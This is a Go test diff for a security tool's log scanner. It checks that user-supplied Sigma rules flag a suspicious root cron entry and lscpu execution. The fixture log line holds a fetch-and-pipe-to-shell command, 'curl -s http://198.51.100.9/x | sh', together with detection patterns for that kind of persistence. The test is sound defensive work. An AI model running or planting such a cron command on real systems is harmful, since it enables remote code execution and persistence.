@@ -9,10 +9,13 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+	"testing/fstest"
 	"time"
 
 	"github.com/bulkheadhq/bulkhead/agent/replay"
 	"github.com/bulkheadhq/bulkhead/internal/services/security/detect"
+	"github.com/bulkheadhq/bulkhead/internal/services/security/rules"
+	"github.com/bulkheadhq/bulkhead/internal/services/security/sigma"
 )
 
 func options() Options {
@@ -171,5 +174,50 @@ func BenchmarkRead(b *testing.B) {
 		if err := s.Read(b.Context(), "log", strings.NewReader(log), 0); err != nil {
 			b.Fatal(err)
 		}
+	}
+}
+
+// TestRead_Rules: a user's rules are asked beside the analytics, of audit records and of lines of any program; what they find is a result like others.
+func TestRead_Rules(t *testing.T) {
+	t.Parallel()
+	o := options()
+	var problems []sigma.Problem
+	o.Rules, problems = rules.Compile(fstest.MapFS{"a.yml": {Data: []byte(`
+title: Cron was told something odd
+id: odd
+level: medium
+tags: [attack.persistence, attack.t1053.003]
+logsource: {product: linux, service: cron}
+detection:
+  s: ['(root) CMD (curl ']
+  condition: s
+---
+title: lscpu
+level: low
+logsource: {category: process_creation, product: linux}
+detection:
+  s: {Image|endswith: /lscpu}
+  condition: s
+`)}})
+	if len(problems) > 0 {
+		t.Fatal(problems)
+	}
+	line := "Nov 20 02:00:01 c1 CRON[900]: (root) CMD (curl -s http://198.51.100.9/x | sh)\n"
+	r := scanned(t, o, intrusion().Audit(), line+line, "Nov 20 02:00:01 c1 CRON[900]: (root) CMD (true)\n")
+	seen := map[string]*Result{}
+	for _, x := range r.Results {
+		if x.Rule == "sigma" {
+			seen[x.Name] = x
+		}
+	}
+	if x := seen["Cron was told something odd"]; x == nil || x.Count != 2 || x.Type != "BH_Rule_odd" || x.Severity != "Medium" || x.Machine != "c1" || len(x.Commands) != 1 || !strings.Contains(x.Commands[0].Line, "curl -s") {
+		t.Errorf("%+v", x)
+	}
+	if r.Logged != 3 || r.Skipped != 0 {
+		t.Errorf("%+v", r)
+	}
+	plain := scanned(t, options(), intrusion().Audit())
+	if len(r.Results) != len(plain.Results)+len(seen) {
+		t.Errorf("%d results with rules, %d of them of rules; %d without", len(r.Results), len(seen), len(plain.Results))
 	}
 }
